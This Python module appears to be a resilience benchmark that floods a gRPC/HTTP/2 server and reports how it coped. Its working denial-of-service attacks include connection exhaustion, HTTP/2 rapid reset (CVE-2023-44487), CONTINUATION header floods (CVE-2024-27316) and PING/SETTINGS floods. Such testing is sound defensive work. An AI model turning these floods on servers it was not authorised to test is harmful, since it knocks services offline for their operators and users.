"""Attacks on a server's port, in a process of their own: what each tried, and what the server made of it.

python -m benchmarks.hostile_attacks NAME HOST:PORT [CA-FILE]: one JSON object. With a file the server speaks TLS.
"""

from __future__ import annotations

import contextlib
import json
import select
import socket
import ssl
import sys
import time
from collections import Counter
from collections.abc import Callable
from contextlib import ExitStack

from benchmarks.http2 import (
    CONTINUATION,
    DATA,
    END_HEADERS,
    GOAWAY,
    HEADERS,
    PING,
    RST_STREAM,
    SETTINGS,
    RawClient,
    field,
    frame,
    message,
    request,
)
from longtake.v1 import longtake_pb2 as pb

Counts = dict[str, float]
MANY = 10_000
SOURCES = 8
"""Addresses of this machine that connections come from."""
HOLD_S = 12.0
"""How long an attack lasts, if the server does not end it before."""
CLIENT_HELLO = bytes.fromhex("1603010200010001fc0303")
"""The beginning of a handshake, which never goes on."""


def half_open(address: str, tls: ssl.SSLContext | None) -> Counts:
    """Connections that never say anything; with TLS every second begins a handshake."""
    host, _, port = address.rpartition(":")
    began_s = time.monotonic()
    watched = select.epoll()
    sockets: dict[int, socket.socket] = {}
    refused = 0
    for number in range(MANY):
        try:
            made = socket.create_connection((host, int(port)), 10, (f"127.0.0.{2 + number % SOURCES}", 0))
            if tls is not None and number % 2:
                made.sendall(CLIENT_HELLO)
        except OSError:
            refused += 1
            continue
        sockets[made.fileno()] = made
        watched.register(made.fileno(), select.EPOLLIN | select.EPOLLRDHUP)
    made_s, cut = time.monotonic() - began_s, 0
    while sockets and time.monotonic() - began_s < made_s + HOLD_S:
        for number, _ in watched.poll(0.5):
            with contextlib.suppress(OSError):
                if sockets[number].recv(1 << 16):
                    continue
            watched.unregister(number)
            sockets.pop(number).close()
            cut += 1
    left = len(sockets)
    for each in sockets.values():
        each.close()
    return {"connections": MANY, "connected_in_s": made_s, "refused": refused, "cut": cut, "left": left}


def idle_connections(address: str, tls: ssl.SSLContext | None) -> Counts:
    """As many connections of HTTP/2 as the server takes, without a call."""
    with ExitStack() as stack:
        taken = refused = 0
        until_s = time.monotonic() + HOLD_S
        for number in range(MANY):
            if time.monotonic() > until_s:
                break
            try:
                source = f"127.0.0.{2 + number % SOURCES}"
                client = stack.enter_context(RawClient(address, source=source, tls=tls))
            except OSError:
                refused += 1
                continue
            taken += client.is_open
            refused += not client.is_open
        time.sleep(max(0.0, until_s - time.monotonic()))
    return {"connections": taken + refused, "taken": taken, "refused": refused}


def unopened_calls(address: str, tls: ssl.SSLContext | None) -> Counts:
    """Calls that never say what they want, over ten connections."""
    ends: Counter[str] = Counter()
    until_s = time.monotonic() + HOLD_S
    with ExitStack() as stack:
        clients = [stack.enter_context(RawClient(address, tls=tls)) for _ in range(10)]
        for first in range(1, 2 * MANY // len(clients), 200):
            for client in clients:
                calls = (frame(HEADERS, request(), flags=END_HEADERS, stream=s) for s in range(first, first + 200, 2))
                client.send(b"".join(calls))
        for client in clients:
            for each in client.frames(max(0.1, until_s - time.monotonic())):
                if each.kind == HEADERS and b"grpc-status" in each.payload:
                    ends["ended"] += 1
                    ends["succeeded"] += b"grpc-status\x010" in each.payload
                elif each.kind == RST_STREAM and each.error:
                    ends["reset"] += 1
                if ends["ended"] + ends["reset"] >= MANY:
                    break
    return {"calls": MANY, "ended": ends["ended"], "reset": ends["reset"], "succeeded": ends["succeeded"]}


def rapid_reset(address: str, tls: ssl.SSLContext | None) -> Counts:
    """Calls that are taken back at once (CVE-2023-44487)."""
    calls, until_s = 0, time.monotonic() + HOLD_S
    with ExitStack() as stack:
        clients = [stack.enter_context(RawClient(address, tls=tls)) for _ in range(10)]
        for client in clients:
            client.socket.settimeout(0.5)
        first = 1
        while time.monotonic() < until_s and any(client.is_open for client in clients):
            batch = b"".join(
                frame(HEADERS, request(), flags=END_HEADERS, stream=s) + frame(RST_STREAM, b"\0\0\0\x08", stream=s)
                for s in range(first, first + 200, 2)
            )
            for client in clients:
                if client.is_open and client.send(batch):
                    calls += 100
            first += 200
    return {"calls": calls, "connections_cut": sum(not client.is_open for client in clients)}


def ping_flood(address: str, tls: ssl.SSLContext | None) -> Counts:
    """Pings without end, on connections that are made again when they are cut."""
    pings = cut = 0
    until_s = time.monotonic() + HOLD_S
    while time.monotonic() < until_s:
        with RawClient(address, tls=tls) as client:
            while client.send(frame(PING, b"12345678") * 100) and time.monotonic() < until_s:
                pings += 100
            cut += any(each.kind == GOAWAY for each in client.frames(0.5)) or not client.is_open
    return {"pings": pings, "connections_cut": cut}


def settings_flood(address: str, tls: ssl.SSLContext | None) -> Counts:
    """Settings without end, whose acknowledgements are not read."""
    sent, until_s = 0, time.monotonic() + HOLD_S
    with ExitStack() as stack:
        clients = [stack.enter_context(RawClient(address, tls=tls)) for _ in range(10)]
        for client in clients:
            client.socket.settimeout(0.5)
        while time.monotonic() < until_s and any(client.is_open for client in clients):
            for client in clients:
                if client.is_open and client.send(frame(SETTINGS) * 200):
                    sent += 200
    return {"settings": sent}


def endless_headers(address: str, tls: ssl.SSLContext | None) -> Counts:
    """Headers that never end (CVE-2024-27316), by clients that have not agreed to the server's limits."""
    payload = b"".join(field(f"x-{number}", "b" * 1500) for number in range(10))
    sent_bytes, until_s = 0, time.monotonic() + HOLD_S
    with ExitStack() as stack:
        clients = [stack.enter_context(RawClient(address, acknowledge=False, tls=tls)) for _ in range(32)]
        for client in clients:
            client.socket.settimeout(0.5)
            client.send(frame(HEADERS, request(), stream=1))
        while time.monotonic() < until_s and any(client.is_open for client in clients):
            for client in clients:
                if client.is_open and client.send(frame(CONTINUATION, payload, stream=1)):
                    sent_bytes += len(payload)
    return {"mb": sent_bytes / 1e6, "connections_cut": sum(not client.is_open for client in clients)}


def closed_windows(address: str, tls: ssl.SSLContext | None) -> Counts:
    """Streams whose clients open them rightly and never let a byte come back."""
    opening = pb.StreamRequest(open=pb.Open(prompt="a red ball swaying at night", window=32)).SerializeToString()
    never = b"\x00\x04" + (0).to_bytes(4, "big")
    with ExitStack() as stack:
        for _ in range(8):
            client = stack.enter_context(RawClient(address, tls=tls))
            client.send(frame(SETTINGS, never))
            client.send(frame(HEADERS, request(), flags=END_HEADERS, stream=1))
            client.send(frame(DATA, message(opening), stream=1))
        time.sleep(HOLD_S)
    return {"streams": 8}


ATTACKS: dict[str, Callable[[str, ssl.SSLContext | None], Counts]] = {
    attack.__name__: attack
    for attack in (
        half_open, idle_connections, unopened_calls, rapid_reset, ping_flood, settings_flood, endless_headers,
        closed_windows,
    )
}  # fmt: skip


def main() -> None:
    """Do one attack and print what came of it."""
    name, address, *ca = sys.argv[1:]
    tls = None
    if ca:
        tls = ssl.create_default_context(cafile=ca[0])
        tls.set_alpn_protocols(["h2"])
    counts = ATTACKS[name](address, tls)
    sys.stdout.write(json.dumps({key: round(value, 2) for key, value in counts.items()}) + "\n")


if __name__ == "__main__":
    main()
